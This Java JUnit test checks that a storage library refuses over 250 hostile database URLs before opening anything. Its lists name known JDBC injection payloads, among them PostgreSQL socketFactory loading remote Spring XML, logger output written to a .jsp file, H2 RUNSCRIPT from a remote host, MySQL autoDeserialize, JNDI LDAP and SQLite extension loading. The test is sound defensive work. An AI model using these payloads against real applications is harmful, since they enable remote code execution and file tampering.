package dev.coffer.resilience;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

import dev.coffer.storage.InvalidInput;
import dev.coffer.storage.Storage;
import dev.coffer.storage.StorageConfig;
import dev.coffer.storage.Unavailable;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.SocketTimeoutException;
import java.nio.file.Path;
import java.sql.DriverManager;
import java.sql.DriverPropertyInfo;
import java.sql.SQLException;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.Properties;
import java.util.Set;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Whoever chooses the URL chooses the database and nothing else: no class, no file, no other host, no setting. */
class UrlAttackTest {
    /** What a URL may say by the driver's names, in lower case. */
    private static final Set<String> ALLOWED = Set.of(
            "user",
            "password",
            "connecttimeout",
            "applicationname",
            "channelbinding",
            "targetservertype",
            "sslmode",
            "sslcert",
            "sslkey",
            "sslrootcert");

    private static final List<String> POSTGRES_PARAMETERS = List.of(
            "socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://HOST/a.xml",
            "socketFactory=java.io.FileOutputStream&socketFactoryArg=DIRECTORY/secretive",
            "%73ocketFactory=java.io.FileOutputStream&socketFactoryArg=DIRECTORY/secretive",
            "sslfactory=org.springframework.context.support.FileSystemXmlApplicationContext&sslfactoryarg=http://HOST/a.xml",
            "sslhostnameverifier=secretive",
            "sslpasswordcallback=secretive",
            "authenticationPluginClassName=secretive",
            "xmlFactoryFactory=secretive",
            "loggerLevel=TRACE&loggerFile=DIRECTORY/secretive.jsp",
            "jaasApplicationName=secretive&jaasLogin=true",
            "gssEncMode=require&gsslib=sspi&gssUseDefaultCreds=true",
            "options=-c%20session_preload_libraries=secretive",
            "options=-c%20log_statement=all",
            "options=-c%20search_path=secretive",
            "currentSchema=secretive",
            "preferQueryMode=simple",
            "localSocketAddress=127.0.0.1",
            "service=secretive",
            "passfile=DIRECTORY/secretive",
            "host=HOST",
            "hostaddr=127.0.0.1",
            "dbname=secretive",
            "sslmode=secretive",
            "sslmode=require&sslmode=disable",
            "targetServerType=secretive",
            "connect_timeout=-1");

    private static final List<String> POSTGRES_URLS = List.of(
            "postgresql://HOST%3FsocketFactory=secretive/app",
            "postgresql://HOST%2Fapp%3Foptions=secretive/app",
            "postgresql://%2Fvar%2Frun%2Fpostgresql/app",
            "postgresql://HOST/app%00?options=secretive",
            "postgresql://ada%00options:secretive@HOST/app",
            "jdbc:postgresql:secretive",
            "jdbc:postgresql://HOST/app?user=ada%00&password=secretive",
            "jdbc:pgsql://HOST/secretive",
            "jdbc:mysql://HOST/app?autoDeserialize=secretive",
            "jdbc:h2:mem:app;INIT=RUNSCRIPT FROM 'http://HOST/secretive.sql'",
            "jndi:ldap://HOST/secretive");

    private static final List<String> SQLITE_PARAMETERS = List.of(
            "enable_load_extension=true",
            "ENABLE_LOAD_EXTENSION=true",
            "mode=ro&enable_load_extension=true",
            "mode=memory",
            "mode=ro%26enable_load_extension=true",
            "vfs=secretive",
            "cache=shared",
            "immutable=1",
            "nolock=1",
            "psow=0",
            "key=secretive",
            "hexkey=secretive",
            "password=secretive");

    private static final List<String> SQLITE_URLS = List.of(
            "jdbc:sqlite::resource:http://HOST/secretive.db",
            "sqlite::resource:http://HOST/secretive.db",
            "jdbc:sqlite::resource:jar:http://HOST/secretive.jar!/app.db",
            "jdbc:sqlite::resource:file:/etc/passwd",
            "JDBC:SQLITE::RESOURCE:http://HOST/secretive.db",
            "sqlite::memory:?cache=shared",
            "sqlite::memory:?enable_load_extension=true",
            "sqlite::secretive:",
            "sqlite:file:DIRECTORY/secretive.db?vfs=unix-none",
            "jdbc:sqlite:file:DIRECTORY/secretive.db?mode=memory&cache=shared",
            "jdbc:sqlite:file::memory:?cache=shared",
            "sqlite://HOST/secretive.db",
            "jdbc:sqlite:///DIRECTORY/secretive.db",
            "sqlite:DIRECTORY/secretive\0.db",
            "sqlite: ",
            "sqlite:");

    @TempDir
    Path directory;

    private ServerSocket socket;

    @BeforeEach
    void listen() throws IOException {
        socket = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
    }

    @AfterEach
    void listenNoMore() throws IOException {
        socket.close();
    }

    @Test
    void everyAttack_isRefusedBeforeAnythingIsOpened() throws Exception {
        List<String> attacks = new ArrayList<>();
        for (String parameter : parameters("jdbc:postgresql://db/app", POSTGRES_PARAMETERS)) {
            attacks.add("postgresql://ada:secretive@HOST/app?" + parameter);
            attacks.add("jdbc:postgresql://HOST/app?user=ada&" + parameter);
        }
        for (String parameter : parameters("jdbc:sqlite:app.db", SQLITE_PARAMETERS)) {
            attacks.add("sqlite:DIRECTORY/app.db?" + parameter);
            attacks.add("jdbc:sqlite:DIRECTORY/app.db?" + parameter);
        }
        attacks.addAll(POSTGRES_URLS);
        attacks.addAll(SQLITE_URLS);

        try (Tally tally = new Tally(Chapter.HOSTILE_INPUT, "Attacks by URL")) {
            for (String attack : attacks) {
                assertRefused(tally, here(attack));
            }
            assertThat(attacks).hasSizeGreaterThan(250);
        }
        assertThat(hasBeenAsked()).isFalse();
        assertThat(directory).isEmptyDirectory();
    }

    /** Those that are known from elsewhere, and every one that the driver has and a URL may not name. */
    private static List<String> parameters(String jdbcUrl, List<String> known) throws SQLException {
        DriverPropertyInfo[] ofDriver = DriverManager.getDriver(jdbcUrl).getPropertyInfo(jdbcUrl, new Properties());
        assertThat(ofDriver).hasSizeGreaterThan(30);
        List<String> parameters = new ArrayList<>(known);
        Arrays.stream(ofDriver)
                .map(property -> property.name)
                .filter(name -> !ALLOWED.contains(name.toLowerCase(Locale.ROOT)))
                .forEach(name -> parameters.add(name + "=secretive"));
        return parameters;
    }

    private String here(String attack) {
        return attack.replace("HOST", "127.0.0.1:" + socket.getLocalPort()).replace("DIRECTORY", directory.toString());
    }

    private static void assertRefused(Tally tally, String url) {
        tally.faults(1);
        assertThat(tally.call(() -> Storage.open(url)).error())
                .as(url)
                .get()
                .isInstanceOfSatisfying(InvalidInput.class, e -> {
                    assertThat(e.field()).isEqualTo("url");
                    assertThat(e.getMessage()).doesNotContain("secretive");
                });
    }

    private boolean hasBeenAsked() throws IOException {
        socket.setSoTimeout(1);
        try {
            socket.accept().close();
            return true;
        } catch (SocketTimeoutException e) {
            return false;
        }
    }

    @Test
    void url_thatIsNoAttack_reachesTheHost() throws Exception {
        StorageConfig config = StorageConfig.forUrl(here("postgresql://ada@HOST/app?connect_timeout=1"))
                .startTimeout(Duration.ofMillis(1))
                .build();
        Thread server = new Thread(() -> {
            try {
                socket.accept().close();
            } catch (IOException e) {
                // closed
            }
        });
        server.start();

        assertThatExceptionOfType(Unavailable.class).isThrownBy(() -> Storage.open(config));

        server.join(20_000);
        assertThat(server.isAlive()).isFalse();
    }
}
